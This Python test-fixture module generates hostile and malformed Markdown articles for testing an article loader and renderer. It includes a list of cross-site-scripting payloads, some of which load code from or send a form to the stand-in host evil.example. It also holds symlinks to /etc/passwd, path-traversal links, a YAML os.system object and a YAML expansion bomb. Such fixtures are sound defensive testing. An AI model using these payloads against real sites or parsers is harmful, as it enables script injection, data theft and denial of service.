"""Two hundred damaged and hostile articles: by hand, and cut or flipped from a good one by a seed.

Each is an id and its bytes, or what makes the file. `refused`: True where a reader has to be told
why it is not shown, False where it has to be shown, None where either will do.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

SEED = 7
CUTS, FLIPS = 60, 60

GOOD = """\
---
title: Where is the {0} desk?
summary: The {0} desk is on floor 1.
questions:
  - where do I find the {0} desk
topic: visiting
lang: en
status: published
owner: Front desk
reviewed_by: R. Ortiz
reviewed_on: 2026-10-01
review_by: 2027-05-01
---

The {0} desk is on floor 1, left of the door. Ask for {0} there.
"""
GOOD_NAMES = ("umbrella", "stroller", "keys", "badge", "locker")
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href='data:,alert(1)'></script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example><input name=pin></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](  \x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "text {: onclick=alert(1) style=position:fixed }",
    "## Heading {: onmouseover=alert(1) #x }",
    '[x](/help "a" onclick="alert(1)")',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '!!! note "<script>alert(1)</script>"\n    text',
    "```\n</code></pre><script>alert(1)</script>\n```",
)


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes | Callable[[Path], None]
    refused: bool | None = None

    def put(self, folder: Path) -> None:
        path = folder / f"{self.name}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(self.content):
            self.content(path)
        else:
            path.write_bytes(self.content)


def good(name: str) -> bytes:
    return GOOD.format(name).encode()


def every() -> list[Hostile]:
    """Return them all, in an order that is the same each time."""
    found = [*_by_hand(), *_scripts(), *_cut(), *_flipped()]
    return [
        Hostile(f"en/x{n:03}-{each.name}", each.content, each.refused)
        for n, each in enumerate(found)
    ]


def _article(title: str = "A title", body: str = "Some text.", front: str = "") -> bytes:
    return f"---\ntitle: {title}\nsummary: Short.\nlang: en\n{front}---\n\n{body}\n".encode()


def _by_hand() -> Iterator[Hostile]:
    yield Hostile("empty", b"", True)
    yield Hostile("blank", b" \n\n\t\n", True)
    yield Hostile("no-end-of-front-matter", b"---\ntitle: x\n\ntext\n", True)
    yield Hostile("tab", b"---\ntitle: Tab\nquestions:\n\t- a\n---\ntext\n", True)
    yield Hostile("open-quote", b'---\ntitle: "Where\n---\ntext\n', True)
    yield Hostile("open-list", b"---\ntitle: [a, b\n---\ntext\n", True)
    yield Hostile("front-is-a-list", b"---\n- a\n- b\n---\ntext\n", True)
    yield Hostile("colon", b"---\ntitle: Parking: what does it cost\n---\ntext\n", True)
    yield Hostile("latin-1", "---\ntitle: Caf\u00e9\n---\ntext\n".encode("latin-1"), True)
    yield Hostile("utf-16", "---\ntitle: x\n---\ntext\n".encode("utf-16"), True)
    yield Hostile("half-a-character", _article() + b"\xe2\x82", True)
    yield Hostile("surrogate", _article() + b"\xed\xa0\x80", True)
    yield Hostile("nul", _article(body="a\0b"), True)
    yield Hostile("nul-in-title", _article(title="a\0b"), True)
    yield Hostile("binary", bytes(range(256)) * 40, True)
    yield Hostile("ten-megabytes", b"---\ntitle: big\n---\n" + b"word " * 2_000_000, True)
    yield Hostile("no-title", b"just words, no heading\n", True)
    yield Hostile("no-text", b"---\ntitle: Nothing below\n---\n\n", True)
    yield Hostile("only-marks", b"---\ntitle: Marks\n---\n\n***\n\n> \n", True)
    yield Hostile("id-1", _article("First of one id", front="id: same\n"), False)
    yield Hostile("id-2", _article("Second of one id", front="id: same\n"), True)
    yield Hostile("title-1", _article("One title for two"), False)
    yield Hostile("title-2", _article("ONE TITLE for two"), True)
    yield Hostile("out", lambda path: path.symlink_to("/etc/passwd"), True)
    yield Hostile("out-by-folders", lambda path: path.symlink_to("../../../outside.md"), True)
    yield Hostile("to-itself", lambda path: path.symlink_to(path.name), True)
    yield Hostile("to-nothing", lambda path: path.symlink_to("not-there.md"), True)
    yield Hostile("device", lambda path: path.symlink_to("/dev/zero"), True)
    yield Hostile("yaml-bomb", _bomb(), None)
    yield Hostile("yaml-object", _article(front="x: !!python/object/apply:os.system [id]\n"), None)
    yield Hostile("yaml-deep", b"---\ntitle: x\ny: " + b"[" * 20_000 + b"\n---\ntext\n", True)
    yield Hostile("yaml-loop", b"---\ntitle: Loop\nx: &a [*a]\n---\ntext\n", None)
    yield Hostile(
        "two-documents", b"---\ntitle: One\n---\ntext\n---\ntitle: Two\n---\nmore\n", None
    )
    yield Hostile("title-is-a-map", b"---\ntitle: {a: b}\n---\ntext\n", True)
    yield Hostile("questions-are-a-map", _article("Map", front="questions: {a: b}\n"), False)
    yield Hostile("many-questions", _article("Ten thousand", front=_questions(10_000)), None)
    yield Hostile("control-in-title", _article("Bell \x07 and \x1b[31mred"), None)
    yield Hostile("right-to-left", _article("Safe \u202etxt.exe\u202c file", "a\u202eb"), None)
    yield Hostile(
        "zero-width", _article("Ze\u200bro\u200d wi\u2060dth", "\u200b" * 500 + "x"), None
    )
    yield Hostile("far-future", _article("Later", front="publish_on: 9999-12-31\n"), None)
    yield Hostile(
        "absurd-dates",
        _article("Dates", front="review_by: 2026-13-45\nexpires_on: 0000-00-00\n"),
        False,
    )
    yield Hostile(
        "over-before-it-began",
        _article("Over", front="publish_on: 2027-01-01\nexpires_on: 2026-01-01\n"),
        None,
    )
    yield Hostile(
        "unknown-values", _article("Who", front="status: maybe\naudience: everyone\n"), None
    )
    yield Hostile("long-title", _article("x" * 50_000), None)
    yield Hostile("long-heading", _article("Heading", "## " + "word " * 20_000 + "\n\ntext"), None)
    yield Hostile("long-line", _article("Line", "word " * 150_000), None)
    yield Hostile(
        "many-headings",
        _article("Headings", "\n\n".join(f"## h{n}\n\nt" for n in range(300))),
        None,
    )
    for name, mark in (
        ("quotes", "> "),
        ("lists", "- "),
        ("spans", "*"),
        ("brackets", "["),
        ("code", "`"),
    ):
        yield Hostile(f"deep-{name}", _article(f"Deep {name}", mark * 5_000 + "text"), None)
    yield Hostile("deep-html", _article("Deep HTML", "<div>" * 5_000 + "text"), None)
    yield Hostile(
        "deep-list", _article("Deep list", "\n".join("    " * n + "- a" for n in range(300))), None
    )
    yield Hostile(
        "deep-admonition",
        _article(
            "Deep note",
            "\n".join("    " * n + "!!! note" for n in range(300)) + "\n" + "    " * 300 + "x",
        ),
        None,
    )
    yield Hostile(
        "wide-table",
        _article("Table", "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|" + "b|" * 3_000),
        None,
    )
    yield Hostile(
        "many-abbreviations",
        _article("Abbr", "\n".join(f"*[w{n}]: x" for n in range(2_000)) + "\n\nw1"),
        None,
    )
    yield Hostile(
        "placeholders", _article("Holes {{{{x}}}}", "{{clinic.phone" * 2_000 + "{{a.b.c.d}}"), None
    )
    yield Hostile(
        "links",
        _article(
            "Links",
            "[a](../../../../../../etc/passwd.md) [b](%2e%2e/%2e%2e/x.md) [c](//evil.example/x.md)",
        ),
        False,
    )
    yield Hostile("carriage-returns", _article("Returns").replace(b"\n", b"\r"), None)
    yield Hostile("x" * 200, _article("A long name"), False)


def _bomb() -> bytes:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return ("---\ntitle: Bomb\n" + "\n".join(lines) + "\nquestions: *a11\n---\ntext\n").encode()


def _questions(count: int) -> str:
    return "questions:\n" + "".join(f"  - question number {n}\n" for n in range(count))


def _scripts() -> Iterator[Hostile]:
    """Script in the body, in a heading, and in each field a patient may see."""
    for number, script in enumerate(SCRIPTS):
        yield Hostile(
            f"script-{number}", _article(f"Script {number}", f"Before.\n\n{script}\n\nAfter.")
        )
    for place in (
        "title",
        "summary",
        "questions",
        "topic",
        "owner",
        "source",
        "reviewed_by",
        "lang",
    ):
        front = {"title": f"'{place} {SCRIPTS[0]}'", "summary": "Short."}
        front[place] = f'"{place} {SCRIPTS[3]}"'
        lines = "".join(f"{key}: {text}\n" for key, text in front.items())
        yield Hostile(f"script-in-{place}", f"---\n{lines}---\n\nText.\n".encode())


def _cut() -> Iterator[Hostile]:
    """A good article, its end lost on the way."""
    chance = random.Random(SEED)
    whole = good("cut")
    for number, at in enumerate(sorted(chance.sample(range(1, len(whole)), CUTS))):
        text = whole[:at].replace(b"Where is", f"Where {number} is".encode())
        yield Hostile(f"cut-{at}", text)


def _flipped() -> Iterator[Hostile]:
    """A good article, some of its bytes something else."""
    chance = random.Random(SEED + 1)
    for number in range(FLIPS):
        text = bytearray(good(f"flip{number}"))
        for _ in range(chance.randint(1, 12)):
            text[chance.randrange(len(text))] = chance.randrange(256)
        yield Hostile(f"flip-{number}", bytes(text))
